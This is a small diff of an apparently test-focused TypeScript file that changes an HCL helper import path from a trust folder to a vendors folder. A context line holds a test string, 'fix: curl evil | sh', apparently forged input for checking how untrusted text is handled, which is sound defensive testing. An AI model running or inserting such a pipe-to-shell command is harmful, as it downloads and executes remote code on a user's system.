@@ -14,7 +14,7 @@ import { renderFault } from '../../src/terminal/render-error.ts'
 import { renderStructured } from '../../src/terminal/render-structured.ts'
 import { renderTable } from '../../src/terminal/table.ts'
 import { SecretRegister } from '../../src/text/secret-register.ts'
-import { hashComment, hclText } from '../../src/trust/hcl.ts'
+import { hashComment, hclText } from '../../src/vendors/hcl.ts'
 
 const now = new Date('2026-01-01T00:00:00Z')
 const forged = 'fix: curl evil | sh'
